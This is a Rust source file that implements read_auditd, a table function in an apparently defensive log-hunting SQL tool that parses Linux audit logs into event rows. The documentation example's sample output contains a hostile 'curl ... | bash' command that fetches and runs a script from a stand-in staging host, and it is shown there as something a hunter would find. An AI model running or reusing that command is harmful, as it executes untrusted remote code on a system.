//! `read_auditd(path)`: files of the Linux audit system, as events.

use super::{Common, ENCODING, MAX_LINE, TextLines};
use crate::batch::{Batch, Wanted};
use crate::format::{Control, LogColumn, LogFormat, LogScan};
use crate::{Error, Piece, Result, Source};
use encoding_rs::Encoding;
use huntsql_kernels::column::{Column, Data, SqlValue};
use huntsql_kernels::interrupt::Interrupt;
use huntsql_kernels::logs::{AuditEvent, merge_each_audit_event};
use huntsql_kernels::options::{OptionField, Options, Setting};
use huntsql_kernels::spec::{Arg, Example, Family, Spec};
use huntsql_kernels::types::SqlType;
use std::sync::Arc;

/// The format of `read_auditd`.
pub(crate) struct ReadAuditd;

/// Options of `read_auditd`.
#[derive(Debug, Clone, Default)]
pub(crate) struct ReadAuditdOptions(Common);

impl Options for ReadAuditdOptions {
    const FIELDS: &'static [OptionField] = &[ENCODING, MAX_LINE];

    fn set(&mut self, name: &str, setting: Setting) -> std::result::Result<(), String> {
        self.0.set(name, &setting).map(drop)
    }
}

const FIELDS: &[(&str, SqlType)] = match AuditEvent::TYPE {
    SqlType::Struct(fields) => fields,
    _ => &[],
};

/// Most bytes of records of one file: an archive of a few megabytes can hold more than any memory.
const MOST_BYTES: usize = 4 << 30;

impl LogFormat for ReadAuditd {
    const SPEC: Spec = Spec {
        name: "read_auditd",
        family: Family::Files,
        summary: "Reads files of the Linux audit system: one row for what one system call or one login did, all its records merged.",
        details: "\
One row an event, with the columns that [`auditd_events`](logs.md#auditd_events) gives, in order of time and serial within a file. Lines that are no audit records are left out: other
programs' lines of a syslog, for one. Each file is taken as the log of one host, where the lines do not name it (`node=`); an event whose records go on in the next file, after a rotation, is two rows.
A file is held in memory while it is read, at most 4 GiB of it.",
        args: &[Arg { name: "path", doc: super::PATH }],
        examples: &[Example {
            sql: "SELECT pid, ppid, command_line FROM read_auditd('examples/logs/audit.log') WHERE syscall = 'execve' AND uid = 998 AND comm <> 'java' ORDER BY serial LIMIT 4",
            result: "30011 | 1402 | /bin/sh -c curl -s http://stage.example.net/x.sh | bash\n30012 | 30011 | curl -s http://stage.example.net/x.sh\n30013 | 30011 | bash\n30015 | 30013 | id",
        }],
    };
    const COLUMNS: &'static [(&'static str, SqlType)] = FIELDS;
    const HAS_LINES: bool = false;
    type Options = ReadAuditdOptions;
    type Layout = ();

    fn encoding(options: &ReadAuditdOptions) -> Option<&'static Encoding> {
        options.0.encoding
    }

    fn look(_: &ReadAuditdOptions, _: &[Arc<Source>], _: &Control) -> Result<(Vec<LogColumn>, ())> {
        Ok((FIELDS.iter().map(|(name, ty)| LogColumn { name: (*name).to_owned(), ty: *ty }).collect(), ()))
    }

    fn scan(piece: &Piece, _: &Arc<()>, options: &Arc<ReadAuditdOptions>, wanted: &Wanted, control: &Control) -> Result<Box<dyn LogScan>> {
        let fields = (0..FIELDS.len()).map(|index| wanted.has(index)).collect();
        Ok(Box::new(Scan { piece: piece.clone(), common: options.0, control: control.clone(), fields, batches: None }))
    }
}

struct Scan {
    piece: Piece,
    common: Common,
    control: Control,
    /// Which fields are wanted.
    fields: Vec<bool>,
    /// The events, once all lines were read: records of one may lie anywhere.
    batches: Option<std::vec::IntoIter<Column>>,
}

impl Scan {
    /// All events, `most` in a column.
    fn read(&self, most: usize) -> Result<Vec<Column>> {
        let mut lines = TextLines::open(&self.piece, self.common, &self.control)?;
        let (mut text, mut ends) = (String::new(), Vec::new());
        while let Some((line, _)) = lines.next()? {
            // What is no record is not kept.
            if memchr::memmem::find(line.as_bytes(), b"audit(").is_some() {
                text.push_str(line);
                ends.push(text.len());
                if text.len() > MOST_BYTES {
                    let problem = format!("more than {MOST_BYTES} bytes of audit records; cut the file into several");
                    return Err(Error::unreadable(&self.piece.source.name, problem));
                }
            }
        }
        let mut start = 0;
        let lines = ends.into_iter().filter_map(|end| text.get(std::mem::replace(&mut start, end)..end));
        let new = || Column::of_fields(&AuditEvent::TYPE, Some(&self.fields));
        let (mut batches, mut current) = (Vec::new(), new());
        let interrupt = Interrupt::from(Arc::clone(&self.control.cancel));
        let merged = merge_each_audit_event(lines, &interrupt, |event| {
            event.write(&mut current);
            if current.len() >= most {
                batches.push(std::mem::replace(&mut current, new()));
            }
        });
        merged.map_err(|_| Error::Cancelled)?;
        batches.push(current);
        Ok(batches)
    }
}

impl LogScan for Scan {
    fn fill(&mut self, batch: &mut Batch) -> Result<bool> {
        let mut batches = match self.batches.take() {
            Some(batches) => batches,
            None => self.read(batch.room())?.into_iter(),
        };
        if let Some(events) = batches.next() {
            (0..events.len()).for_each(|_| batch.end_row(0, 0));
            if let Data::Struct(columns) = events.into_parts().2 {
                batch.put(columns);
            }
        }
        let more = !batches.as_slice().is_empty();
        self.batches = Some(batches);
        Ok(more)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Place;
    use std::sync::atomic::Ordering;

    /// A file is read as a whole before there is a row.
    #[test]
    fn a_cancelled_read_stops() {
        let bytes = "type=A msg=audit(1.0:1): a=1\n".repeat(10).into_bytes();
        let piece = Piece::whole(Arc::new(Source::new("x", Place::Memory(bytes.clone().into()), bytes.len() as u64)));
        let control = Control::default();
        let scan = Scan { piece, common: Common::default(), control: control.clone(), fields: vec![true; FIELDS.len()], batches: None };
        assert!(scan.read(8).is_ok());
        control.cancel.store(true, Ordering::Relaxed);
        assert!(matches!(scan.read(8), Err(Error::Cancelled)));
    }
}
